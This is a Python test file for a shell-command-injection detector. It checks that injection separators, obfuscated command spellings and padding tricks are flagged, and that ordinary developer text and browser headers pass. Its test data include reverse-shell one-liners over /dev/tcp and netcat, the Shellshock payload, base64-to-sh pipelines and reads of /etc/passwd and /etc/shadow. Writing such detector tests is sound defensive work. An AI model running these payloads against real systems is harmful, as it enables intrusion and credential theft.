"""Commands of Unix shells in values: by how they get out of what they are put into, and by how they are spelled."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.attacks.asking import PLENTY, detectors, subject, units, weight, weights

from doorward.attacks.evidence import Place, Value
from doorward.attacks.subject import Subject
from doorward.attacks.work import Work
from doorward.builders.rule_files import contents

COMMANDS = ["cat /etc/hosts", "uname -a", "id", "ls -la", "wget http://192.0.2.1/a", "sleep 10", "ping -c 4 192.0.2.1"]
LINK = "https://example.org/install"


@pytest.mark.parametrize("command", COMMANDS, ids=range(len(COMMANDS)))
@pytest.mark.parametrize(
    "frame",
    [
        ";{};",
        "; {}",
        "|{}",
        "| {} |",
        "||{}||",
        "&&{}",
        "& {} &",
        "\n{}\n",
        "\\n{}\\n",
        "$({})",
        "`{}`",
        "192.0.2.7; {}",
        "a.jpg|{}",
        "a.jpg||{} #",
        "x@example.org&&{}",
        "';{};'",
        '"; {}; "',
        "');{} #",
        "a$({})b",
        "a`{}`b",
        "x\n{}",
        "1;\t{}",
    ],
    ids=range(22),
)
def test_commands_behind_separators_are_denied(frame: str, command: str) -> None:
    """Every separator of the grammar, at the beginning, behind a plain value, and behind a quote that it closes."""
    assert weight("shell", frame.format(command)) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "c'a't /tmp/x",
        'c"a"t /tmp/x',
        "c\\at /tmp/x",
        "wh$@oami",
        "w''hoami",
        'un""ame -a',
        "cu${x}rl http://192.0.2.1",
        "{cat,/tmp/x}",
        "cat${IFS}/tmp/x",
        ";ls$IFS$9-la",
        "/???/c?t /tmp/x",
        "/bin/c[a]t /tmp/x",
        "a=c;b=at;$a$b x",
        "$'\\x63\\x61\\x74' /etc/passwd",
        "${PATH:0:1}bin${PATH:0:1}id",
        "who$()ami",
        "\\uname -a",
        "/bin/../bin/uname -a",
        "printf aWQ= | base64 -d | sh",
        "rev<<<di|sh",
        ";$u wget http://192.0.2.1/",
        "cat</etc/passwd",
        "CAT /etc/passwd",
        "sudo -u root nice -n 5 uname -a",
        "/usr/bin/env bash -c id",
        "python3.12 -c 'import socket;x'",
        "; 'uname' -a",
    ],
    ids=range(27),
)
def test_spellings_of_commands_are_denied(text: str) -> None:
    """Quotes, escapes, expansions, wildcards, wrappers and pipes do not hide what is run."""
    assert weight("shell", text) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1",
        "nc -e /bin/sh 192.0.2.1 4242",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f",
        "0<&196;exec 196<>/dev/tcp/192.0.2.1/4242; sh <&196 >&196 2>&196",
        "() { :;}; /bin/bash -c id",
        "python -c 'import pty; pty.spawn(\"/bin/sh\")'",
        "; cat /etc/passwd |",
        "$(tail /etc/shadow)",
    ],
    ids=range(8),
)
def test_what_is_explicit_is_denied_within_long_text(text: str) -> None:
    """Filler around it is no way through."""
    filler = "lorem ipsum dolor sit amet " * 60
    assert weight("shell", text) >= 1
    assert weight("shell", f"{filler}{text} {filler}") >= 1


@pytest.mark.parametrize(
    "text",
    [
        "ping me when you are back && call Bob",
        "cats & dogs | birds",
        "find the cat; sleep well",
        "use `ls -la` to list files",
        "git log --oneline | head",
        "AT&T; Verizon; T-Mobile",
        "nc = numerical control; id = 5",
        "cost is $(100) or €90",
        "rm is short for remove",
        "name;id;date",
        "| id | name | type |",
        "A&W; Root Beer",
        "su & mo closed; id required",
        "make && make install",
        "cat foo.txt | grep bar",
        "it's the cat's",
        "O'Brien; O'Neil",
        "rock'n'roll",
        "Price: ${price}",
        "$(document).ready(f)",
        "$(this).hide()",
        "f(id); g(date)",
        "docker compose up -d && docker ps",
        "exec summary; host: a",
        "see the `mount` story; it has a `time` too",
        "// cat",
        "who am I; what is time",
        "&copy; 2024",
        "id,name,date\n1,a,b",
        f"curl -LsSf {LINK} -o x",
        f"wget {LINK}",
        "ls -la",
        "C:\\new\\report.docx",
        "where id = 5; order by date",
        "npm i; npm t",
    ],
    ids=range(35),
)
def test_what_people_write_passes(text: str) -> None:
    """Words that are names of commands too, and lines that developers write to each other."""
    assert weight("shell", text) < 1


@pytest.mark.parametrize(
    "text",
    [
        "Build it:\n\n```sh\n$ ./configure && make\n$ sudo make install; ls /usr/bin\n```\n\nand tell us.",
        'FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD ["bash", "-c", "exec ./run"]\n',
        "jobs:\n  test:\n    steps:\n      - run: |\n          pip install .; pytest | tee x\n          echo $(date)\n",
        "def run():\n    os.system('ls -la | grep x')\n    return subprocess.run(['cat', path])\n",
        'for f in *.csv; do\n  wc -l "$f"; mv "$f" done/\ndone\n',
        "I get an error from `find . -name x | xargs rm -f` on it; what is wrong? Thank you for help.",
    ],
    ids=range(6),
)
def test_documentation_passes(text: str) -> None:
    """Sessions, build files and scripts in text of several lines are weak evidence at most."""
    assert weight("shell", text) < 1


@pytest.mark.parametrize("padding", ["A", "0", "ab", " "])
def test_padding_is_no_value(padding: str) -> None:
    """What is put before a command to push it out of sight."""
    assert weight("shell", f"{padding * 1_000};uname -a") >= 1
    assert weight("shell", f"{padding * 1_000};$(printf 'di' | rev)") >= 1


def test_a_parameter_that_asks_for_a_command_makes_a_line_one() -> None:
    """``cmd=ls -la`` is no note about ``ls``; its own name is no command."""
    assert weight("shell", "ls -la", name="cmd") >= 1
    assert weight("shell", "ls -la", name="note") < 1
    assert weight("shell", "view", name="cmd") == 0


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("user-agent", "curl/8.5.0"),
        ("user-agent", "python-requests/2.31 (time; date; host)"),
        ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
        ("sec-ch-ua", '"Chromium";v="128", "Not;A=Brand";v="24"'),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary"),
        ("forwarded", "for=192.0.2.60; proto=http; host=example.org"),
        ("if-none-match", 'W/"67ab5-18"'),
    ],
    ids=range(8),
)
def test_headers_of_browsers_and_libraries_pass(name: str, text: str) -> None:
    """Their semicolons separate no commands."""
    assert weight("shell", text, Place.HEADER, name) < 0.5


def test_wildcards_have_to_leave_letters() -> None:
    """A pattern that matches every path is not one for a path's sake."""
    assert "shell.glob" in weights("shell", "/b?n/c?t x")
    for text in ("/*/*", "/???/???", "/api/*/users", "src/**/*.py", "/search?q=cat", "/etc/*"):
        assert "shell.glob" not in weights("shell", text)


HOSTILE = [
    ";",
    "|",
    "`",
    "$(",
    "${",
    ";cat ",
    ";id;x",
    ";c'a't ",
    ";'a",
    "\\n",
    "{a,",
    "{cat,x}",
    "/?a",
    "/b?n/",
    "$a$b",
    "\n$ a ",
    "echo $((1",
    "curl x|",
    "nc ",
    "<<<",
    "''",
    "a=b;",
    "sudo ",
    "() {",
    "alias a",
    "\\x41",
    "&& ",
    "/[a",
    "**/",
    "> /tmp/",
]


@pytest.mark.parametrize("piece", HOSTILE, ids=range(len(HOSTILE)))
def test_cost_is_proportional_to_length(piece: str) -> None:
    """Twice as much of the same costs twice as much, whatever it is."""
    short, long = (units("shell", piece * (count // len(piece))) for count in (2_304, 4_608))
    assert long <= 2.2 * short + 10_000


EXAMPLES = [text for rule in contents()["shell"]["rule"] for text in rule["match"]]
AROUND = st.text(" abz019.,;'\"|&\n/-=(", max_size=12)


@given(AROUND, st.sampled_from(EXAMPLES), AROUND)
def test_the_screens_are_one_sided(before: str, text: str, after: str) -> None:
    """What a detector finds in a text it wants to look at, also with other text around it."""
    for detector in detectors("shell"):
        if list(detector.examine(subject(before + text + after), Work(PLENTY))):
            assert detector.wants(Subject(f"x {before}{text}{after} y", Value(Place.QUERY, "q", "x")))


@pytest.mark.parametrize("book", ["shell", "windows"])
def test_no_name_is_hidden_by_the_screen(book: str) -> None:
    """Every command of the vocabularies is asked about where it is found: :func:`weights` asserts it."""
    words = contents()[book]["words"]
    for name in (*words["telling"], *words["ordinary"], *words["ambiguous"]):
        assert weight(book, f";{name} -a /tmp/x") >= 1
        for text in (name, f"'{name}' x", f"/bin/{name} -x", f"| {name}3.10 -c x", f"'{name[0]}''{name[1:]}' -x"):
            weights(book, text)
